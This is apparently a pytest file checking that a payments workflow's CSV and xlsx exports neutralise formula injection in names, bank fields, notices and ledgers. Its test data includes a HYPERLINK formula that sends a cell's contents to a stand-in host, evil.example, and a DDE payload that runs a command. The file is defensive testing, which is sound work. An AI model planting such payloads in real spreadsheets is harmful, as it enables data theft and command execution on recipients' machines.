"""Formula injection (issue 17 item 5): no text butie writes into a CSV or xlsx file starts a
formula, whichever file it is, and nothing but workflow.spreadsheets writes such files.

OWASP CSV injection guidance: a cell starting with = + - @ tab or CR gets a leading apostrophe;
numbers stay numbers. openpyxl stores a text starting with "=" as a formula, so the xlsx
cells are checked by their data type too.
"""

from __future__ import annotations

import ast
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from tests.sheets import Cell, csv_cells, live_formulas, xlsx_cells
from workflow.notices.document import NoticeDocument, NoticeRow
from workflow.notices.exports import notice_csv, notice_xlsx
from workflow.payments.bank_files import (
    DEFAULT_TEMPLATE,
    YIKATONG_TEMPLATE,
    Payment,
    disbursement_csv,
    disbursement_xlsx,
    parse_results,
)
from workflow.payments.reports import reconciliation_xlsx
from workflow.reports import ledgers
from workflow.reports.xlsx import Yuan, write_xlsx
from workflow.spreadsheets import Styled, Xlsx, csv_bytes, neutralise

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "@SUM(1)", "+1", "-1",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-2+3", "+86 138", "@")


def assert_inert(cells: list[Cell]) -> None:
    assert live_formulas(cells) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "中国农业银行", "1400.00", "BT2026-3F9A1C2E", "",
                                   "a=b", "'=already", 7, -1, 2.5, Decimal("-3.10"),
                                   date(2026, 11, 2), None])
def test_everything_else_is_kept_and_numbers_stay_numbers(value):
    assert neutralise(value) == value and type(neutralise(value)) is type(value)


def test_the_writers_neutralise_every_cell_plain_or_styled():
    rows = [[text, Styled(text, bold=True), 1, -5, Decimal("-2.50")] for text in HOSTILE]
    book = Xlsx("=sheet")
    for row in rows:
        book.append(row)
    cells = xlsx_cells(book.to_bytes())
    assert_inert(cells)
    assert ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "s") in cells
    assert (-5, "n") in cells  # numbers stay numbers
    written = csv_cells(csv_bytes(rows))
    assert {"'@SUM(1)", "'\t=1+1", "-5"} <= {v for v, _ in written}
    assert_inert([c for c in written if c[0] not in ("-5", "-2.50")])


def _payments() -> list[Payment]:
    return [Payment(i, name, "6228480000000000000", bank, 140000, f"BT2026-{i:08X}")
            for i, (name, bank) in enumerate(zip(HOSTILE, reversed(HOSTILE), strict=True),
                                             start=1)]


@pytest.mark.parametrize("template", [DEFAULT_TEMPLATE, YIKATONG_TEMPLATE,
                                      (("=HEADING()", "reference"), ("@x", "bank_name"),
                                       ("+金额", "amount_yuan"))])
def test_bank_files_hold_hostile_names_and_bank_names_as_text(template):
    payments = _payments()
    xlsx, text = (disbursement_xlsx(payments, template, "ZF2026-0001"),
                  disbursement_csv(payments, template, "ZF2026-0001"))
    assert_inert(xlsx_cells(xlsx))
    assert_inert(csv_cells(text))
    assert ("'@SUM(1)", "s") in xlsx_cells(xlsx) and ("'@SUM(1)", "s") in csv_cells(text)
    # The bank's result file is still read back by reference.
    result = csv_bytes([["业务参考号", "状态"], [payments[0].reference, "成功"]])
    assert parse_results(result, "r.csv")[0].success is True


def test_notices_and_reconciliation_hold_hostile_text_as_text():
    doc = NoticeDocument("=title", "@authority", "GS2026-0001", date(2026, 11, 2),
                         date(2026, 11, 9), "-office", "+0954", "\taddress",
                         tuple(NoticeRow(i, name, "6404**********1234", "白阳镇", name, 140000)
                               for i, name in enumerate(HOSTILE, start=1)))
    for cells in (xlsx_cells(notice_xlsx(doc)), csv_cells(notice_csv(doc))):
        assert_inert(cells)
        assert {"'=title", "'-office", "'+1", "'\r=1+1"} <= {v for v, _ in cells}
    assert (1400, "n") in xlsx_cells(notice_xlsx(doc))  # the amount stays a number
    report = xlsx_cells(reconciliation_xlsx([("=batch", {k: (1, 100) for k in (
        "expected", "paid", "failed", "pending")})]))
    assert_inert(report)
    assert ("'=batch", "s") in report


def test_ledger_sheets_hold_hostile_text_as_text():
    sheet = ledgers.targets_ledger("=title", ("-flag",)).sheet
    out = io.BytesIO()
    write_xlsx(out, sheet, [[1, *HOSTILE, Yuan(-100)]])
    cells = xlsx_cells(out.getvalue())
    assert_inert(cells)
    assert ("'=title", "s") in cells and ("'-flag", "s") in cells
    assert any(v == -1 and t == "n" for v, t in cells)  # the amount stays a number


def _imports(path: Path) -> set[str]:
    found: set[str] = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            found |= {a.name.split(".")[0] for a in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            found.add(node.module.split(".")[0])
    return found


def test_only_the_one_writer_imports_csv_or_openpyxl():
    """A new export written with csv or openpyxl directly would skip `neutralise`."""
    offenders = [str(p.relative_to(ROOT)) for folder in ("workflow", "web")
                 for p in sorted((ROOT / folder).rglob("*.py"))
                 if p != ROOT / "workflow" / "spreadsheets.py"
                 and _imports(p) & {"csv", "openpyxl"}]
    assert offenders == []
